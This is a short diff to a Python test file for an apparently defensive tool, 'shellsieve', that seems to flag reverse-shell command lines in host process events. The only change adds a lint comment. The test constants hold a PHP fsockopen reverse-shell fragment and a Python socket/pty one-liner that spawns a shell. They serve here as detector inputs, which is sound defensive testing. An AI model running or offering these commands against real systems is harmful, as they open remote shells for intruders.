@@ -24,7 +24,7 @@ from test_serve_cli import Downstream, _event, _ports, serve
 
 CLI = str(Path(sys.executable).parent / "shellsieve")
 PHP = "php -r '$s=fsockopen(\"10.10.10.10\",9001);'"
-BOTH = PHP + " ; python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"
+BOTH = PHP + " ; python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"  # noqa: E501  a verbatim command line
 EVENTS = [
     {"@timestamp": "2026-12-04T10:00:00Z", "host": {"name": "web1"}, "process": {"command_line": "ls"}},
     {"@timestamp": "2026-12-04T10:00:01Z", "host": {"name": "web1"}, "user": {"name": "www"},
